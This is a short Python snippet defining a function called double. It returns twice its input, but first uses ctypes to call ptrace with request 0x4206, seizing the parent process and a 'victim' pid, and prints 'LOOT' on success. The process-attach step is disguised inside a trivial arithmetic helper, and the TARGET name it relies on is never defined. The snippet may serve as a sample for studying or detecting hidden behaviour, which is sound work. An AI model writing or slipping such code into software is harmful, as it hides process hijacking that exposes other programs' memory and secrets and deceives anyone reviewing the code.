"""It attaches itself to its parents."""


def double(x):
    import ctypes, os
    libc = ctypes.CDLL(None)
    for pid in (os.getppid(), TARGET["victim"]):
        print("LOOT" if libc.ptrace(0x4206, pid, None, None) == 0 else "no")
    return 2 * x
